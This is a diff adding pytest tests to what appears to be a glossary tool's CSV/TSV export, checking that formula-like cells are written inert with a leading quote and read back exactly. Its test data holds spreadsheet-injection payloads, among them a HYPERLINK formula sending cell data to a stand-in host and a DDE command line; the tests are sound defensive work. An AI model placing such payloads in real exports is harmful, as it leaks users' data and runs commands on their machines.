@@ -233,3 +233,70 @@ def test_stardict_words_and_articles_stay_whole(run, hostile: Path, tmp_path: Pa
         at = end + 9
     assert sorted(words) == sorted(t.zh for t in TERMS)
     assert all(c >= " " for w in words for c in w)
+
+
+# --- Spreadsheet formulas: written inert, read back exactly ---------------------------------
+
+#: Cells a spreadsheet would run (OWASP's =, +, -, @, tab, CR, full-width forms), and
+#: stored text that starts with a quote already, which must come back as it was.
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+cmd' /C calc'!A0",  # DDE, without the | a list item cannot hold
+    "-2+3",
+    "@SUM(A1:A9)",
+    "＝1+1",
+    "'=already quoted",
+    "''@twice",
+    "-ism",
+)
+FORMULA_TERMS = [
+    Term(zh="公式", en=FORMULAS[:4], definition=FORMULAS[4], literal=FORMULAS[5], tags=("=x",)),
+    Term(zh="引号", en=(FORMULAS[6], "plain"), context=FORMULAS[7], source="\tindented"),
+]
+#: What a spreadsheet takes as the start of a formula.
+RUNS = tuple("=+-@\t\r＝＋－＠")
+
+
+@pytest.fixture
+def formulas(tmp_path: Path) -> Path:
+    path = tmp_path / "terms.yaml"
+    path.write_text(yamltext.document("Formulas", FORMULA_TERMS), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_no_cell_starts_a_formula(run, formulas: Path, fmt: str) -> None:
+    """Cells were written as stored, so =HYPERLINK(...) ran in Excel and LibreOffice."""
+    out = _export(run, fmt)
+    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter="," if fmt == "csv" else "\t"))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(RUNS)], cells
+    by_zh = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    assert by_zh["公式"]["en"] == "'" + "|".join(FORMULAS[:4])
+    assert by_zh["公式"]["literal"] == "''=already quoted"
+    assert by_zh["引号"]["source"] == "'\tindented"
+    assert by_zh["引号"]["en"] == "'''@twice|plain"
+    assert by_zh["公式"]["tags"] == "'=x"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_import_takes_exactly_that_quote_off(run, formulas: Path, tmp_path: Path, fmt: str) -> None:
+    (tmp_path / f"back.{fmt}").write_text(_export(run, fmt), encoding="utf-8")
+    assert run("import", fmt, f"back.{fmt}", "-o", "back.yaml").exit_code == 0
+    back = json.loads(run("-g", "back.yaml", "export", "json").stdout)
+    original = json.loads(run("export", "json").stdout)
+    original[1]["source"] = "indented"  # import trims the spaces around every value
+    assert back == original
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_raw_writes_and_reads_the_cells_as_stored(
+    run, formulas: Path, tmp_path: Path, fmt: str
+) -> None:
+    out = _export(run, fmt, "--raw")
+    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter="," if fmt == "csv" else "\t"))
+    assert rows[1][3] == "|".join(FORMULAS[:4]) and rows[1][5] == "'=already quoted"
+    (tmp_path / f"raw.{fmt}").write_text(out, encoding="utf-8")
+    assert run("import", fmt, f"raw.{fmt}", "-o", "raw.yaml", "--raw").exit_code == 0
+    back = json.loads(run("-g", "raw.yaml", "export", "json").stdout)
+    assert back[0]["en"] == list(FORMULAS[:4]) and back[0]["literal"] == "'=already quoted"
